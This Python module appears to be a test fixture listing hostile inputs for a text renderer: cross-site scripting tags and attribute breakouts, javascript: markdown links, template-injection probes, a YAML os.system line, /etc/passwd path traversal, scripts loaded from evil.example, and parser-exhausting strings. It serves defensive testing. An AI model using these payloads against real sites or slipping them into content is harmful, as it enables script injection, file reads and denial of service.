"""Hostile inputs: what people who mean harm, or bad luck, put where words belong. Ours, one a line, each of its kind."""

from itertools import product

#: What runs if it runs: a dialog that the test hears.
RUN = "alert(1)"

_TAGS = [
    f"<script>{RUN}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</script>",
    f"<script\x20type=module>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<iframe src=javascript:{RUN}></iframe>", f'<iframe srcdoc="<script>{RUN}</script>">',
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<form action=javascript:{RUN}><button>x</button></form>", f"<button formaction=javascript:{RUN}>x</button>",
    f"<select autofocus onfocus={RUN}>", "<style>@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<base href=//evil.example/>", f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<template><script>{RUN}</script></template>", f"<a href=javascript:{RUN}>x</a>", f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=&#106;avascript:{RUN}>x</a>", f"<a href=data:text/html,<script>{RUN}</script>>x</a>", f"<x contenteditable onblur={RUN}>x</x>",
    f"<p style=background:url(javascript:{RUN})>x</p>", "<p style=position:fixed;inset:0>x</p>", f"<isindex action=j&Tab;avas&Tab;c&Tab;r&Tab;ipt:{RUN} type=image>",
    f"<a onmouseover={RUN}>x</a>", f"<img/src/onerror={RUN}>", f"<img src=`x`onerror={RUN}>", f"<svg/onload={RUN}//",
]  # fmt: skip
_BREAKOUTS = [
    f"{close}{payload}"
    for close, payload in product(
        (
            '">',
            "'>",
            "-->",
            "]]>",
            "</title>",
            "</textarea>",
            "</style>",
            "</script>",
            "</noscript>",
            "`>",
            "}}",
            "*/",
        ),
        (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>"),
    )
]
_ATTRIBUTES = [
    f'" onmouseover={RUN} x="', f"' onfocus={RUN} autofocus x='", f'" style="x:expression({RUN})', f"x onerror={RUN}", f"` onload={RUN}",
    f'"/><svg onload={RUN}>', f'\\" onerror={RUN} \\"', f"&quot; onload={RUN}", f'" srcdoc="<script>{RUN}</script>', '" autofocus tabindex=1 "',
]  # fmt: skip
_MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", "[x](data:text/html;base64,PHNjcmlwdD4=)", f"[x](vbscript:{RUN})", f"![x](javascript:{RUN})",
    "![x](https://evil.example/x.png)", f"[x]: javascript:{RUN}", f"<javascript:{RUN}>", "<https://evil.example/>", f"[x][1]\n\n[1]: javascript:{RUN}",
    f'[x](https://a.example/"onclick={RUN})', f"[x](&#106;avascript:{RUN})", f"{{: onclick={RUN} #content .dw-title }}", f"# head {{: onload={RUN} }}",
    f'<div markdown="1"><script>{RUN}</script></div>', "# Heading", "## Heading", "Setext\n======", "- - - item", "1. item", "> quotation",
    "```\ncode\n```", "~~~ .html\ncode\n~~~", "    indented code", "| a | b |\n|---|---|", "*[HTML]: abbreviation", "[^1]: footnote", "***", "---",
    "**bold** _under_ ~~del~~ `code`", "\\# \\* \\_ \\[ \\\\", "[[wiki]] ((x)) :emoji: ==mark== ++ins++", "!!! note\n    admonition",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;b&amp;gt;", "&NotAnEntity; &#x110000; &#0;",
    "term\n: definition", "[TOC]", "[x](../../../../etc/passwd)",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{% raw %}", "{# x #}", "{{ config }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "{{ page.meta }}", "{%- endblock %}", "{{ '<script>alert(1)</script>' | safe }}", "%(name)s", "{0} {name}", "$(touch x)", "`touch x`",
]  # fmt: skip
_YAML = [
    "no", "null", "~", "1.10", "0123", "12:30:45", "2024-01-01", "!!python/object/apply:os.system ['true']", "*alias", "&anchor x", "<<: {a: b}",
    "{a: b}", "[a, b]", "- a", "key: value", "? key", "%YAML 1.2", "@at", "| block", "> folded", "# comment", "'single", '"double', "=", "a: b: c",
]  # fmt: skip
_LETTERS = [
    "Z\u0335a\u0336l\u0337g\u0338o" * 20, "\u05d0\u05d1\u05d2 (abc) 123", "ناتو\u200cها", "a\u200db", "\u0430pple \u0440\u0430y", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufdfa", "\ufee3\ufee3", "e\u0301 \u00e9", "\u2066x\u2069".replace("\u2066", "").replace("\u2069", ""), "\U00020000\U0002f800", "\u0640" * 40, "\ue000private", "İıSſ",
]  # fmt: skip
_PATHS = ["../../x", "/etc/passwd", "C:\\Windows\\x", "con", "nul.txt", "a/../../b", "..%2f..%2fx", "x.html#y?z", "file:///etc/passwd", "//evil.example/x"]  # fmt: skip
_ENDLESS = [
    "[" * 300, "![" * 200, "[a](" * 100, "*" * 300, "_a_" * 150, "`" * 301, "<" * 300, "&" * 300, ">" * 300, "#" * 300, "(" * 300, "\\" * 301, "a" * 400,
]  # fmt: skip

#: Inputs that a record may hold: they are shown as the words they are.
PAYLOADS = [*_TAGS, *_BREAKOUTS, *_ATTRIBUTES, *_MARKDOWN, *_TEMPLATES, *_YAML, *_LETTERS, *_PATHS, *_ENDLESS]

#: Inputs that no record may hold, because they hide or reorder what is shown.
HIDDEN = [
    "a\x00b", "a\x1bb", "a\x7fb", "a\x85b", "a\x02b\x03", "a\u2028b", "a\u2029b", "\u202etxet desrever\u202c", "\u202dx\u202c", "\u2067x\u2069",
    "\ufeffx", "\U000e0041\U000e007f", "\ufffex", "\uffffx", "\ufdd0x", "a\u2060b", "\ufff9x\ufffb", "a\x08b",
]  # fmt: skip

#: Inputs that make a careless parser run without end, as the text of a source.
LONG = ["[" * 60_000, "![" * 40_000, "[a](" * 20_000, "*" * 60_000, "<" * 60_000, "> " * 30_000, "`" * 60_001, "- " * 30_000, "a" * 300_000,
        "\u0300" * 60_000, "| " * 40_000, "#" * 60_000, "&#" * 40_000, "<div>" * 20_000, "a- b" * 30_000, "\n".join("x" for _ in range(60_000))]  # fmt: skip
